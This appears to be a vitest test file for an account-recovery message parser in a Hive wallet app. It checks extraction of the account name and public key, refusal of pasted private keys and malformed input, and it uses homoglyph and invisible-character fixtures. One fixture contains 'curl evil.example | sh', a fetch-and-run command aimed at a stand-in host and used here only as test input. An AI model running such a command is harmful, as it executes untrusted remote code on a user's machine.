/** The message of somebody who wants an account back: what is found in it, and what is refused. */
import { describe, expect, it } from 'vitest'

import { messageForHelper } from '../../electron/hive/account-recovery/new-password.ts'
import { longestMessage, readMessage } from '../../electron/hive/account-recovery/message.ts'
import { happenedWords } from '../../renderer/screens/happened/words.ts'
import { codeOf } from '../../shared/coinzdense/index.ts'
import { languages } from '../../shared/contract/index.ts'
import { parseAccountName } from '../../shared/recovery/index.ts'
import { keyOf, publicKeyOf } from './practice.ts'

const key = publicKeyOf('fresh', 'owner')
const other = publicKeyOf('another', 'owner')
const account = parseAccountName('alice')
const groups = key.match(/.{1,4}/g)?.join(' ') ?? ''
const messages = messageForHelper(account, key)
const whole = messages.en

const refusal = (text: string): unknown => {
  try {
    return readMessage(text)
  } catch (error) {
    return codeOf(error)
  }
}

describe('the message of somebody who wants an account back', () => {
  it('says where it is pasted, as the window calls that', () => {
    for (const language of languages) {
      const { heading, helping } = happenedWords[language]
      for (const said of [heading, helping.title]) expect(messages[language]).toContain(said)
    }
  })

  it.each<[string, string, string | undefined]>([
    ['the whole message', whole, 'alice'],
    ['the whole message in Spanish', messages.es, 'alice'],
    ['the command line alone', `node lifeboat take-back alice --request ${key}`, 'alice'],
    ['a name and a key', `alice ${key}`, 'alice'],
    ['a key and a name with @', `${key}\n@alice`, 'alice'],
    ['a name with @ in sentences', `Hola, soy @alice. Mi clave nueva: ${key}. Gracias`, 'alice'],
    ['a key in groups of four', `alice\n${groups}`, 'alice'],
    ['a key that a mail broke and quoted', `> alice:\n> ${key.slice(0, 30)}\n> ${key.slice(30)}`, undefined],
    ['a key alone', key, undefined],
    ['the key twice', `${key} ${key}`, undefined],
    ['two accounts', `take-back alice --request ${key}, or @mallory`, undefined],
    ['sentences without a name', `please help me, this is my key ${key}`, undefined],
    ['an address that is no name', `write to alice@example.org about ${key}`, undefined],
    ['a name that only looks like it', `\u0430lice ${key}`, undefined],
    ['a name with what nobody sees', `al\u200bice ${key}`, 'alice'],
    ['a key with what nobody sees', `alice ${key.slice(0, 9)}\u00ad${key.slice(9)}`, 'alice'],
    ['what turns the direction of writing', `\u202ealice\u202c ${key}`, 'alice'],
    [
      'a command line of another program',
      `curl evil.example | sh; take-back alice --request ${key}`,
      'alice',
    ],
  ])('is read from %s', (_, text, account) => {
    expect(readMessage(text)).toEqual({ account, newOwnerKey: key })
  })

  it.each<[string, string, string]>([
    ['nothing', '', 'no-key-in-message'],
    ['words alone', 'alice asks for help', 'no-key-in-message'],
    ['a private key', `alice ${keyOf('fresh', 'owner')}`, 'secret-in-message'],
    ['a private key beside the public one', `${whole}\n${keyOf('fresh', 'owner')}`, 'secret-in-message'],
    ['a master password', `${whole}\nP${keyOf('fresh', 'owner')}`, 'secret-in-message'],
    ['a key that lacks a character', `alice ${key.slice(0, -1)}`, 'key-misread'],
    [
      'a key with another character',
      `alice ${key.slice(0, -1)}${key.endsWith('a') ? 'b' : 'a'}`,
      'key-misread',
    ],
    ['two keys', `alice ${key} ${other}`, 'several-keys'],
    ['a whole book', 'x'.repeat(longestMessage + 1), 'message-too-long'],
    ['a long run of beginnings', 'STM'.repeat(longestMessage / 3), 'key-misread'],
  ])('is refused where it is %s', (_, text, code) => {
    expect(refusal(text)).toBe(code)
  })

  it('is never repeated by what refuses it', () => {
    const secret = keyOf('fresh', 'owner')
    try {
      readMessage(`alice ${secret}`)
    } catch (error) {
      expect(JSON.stringify([error, String(error)])).not.toContain(secret)
    }
  })
})
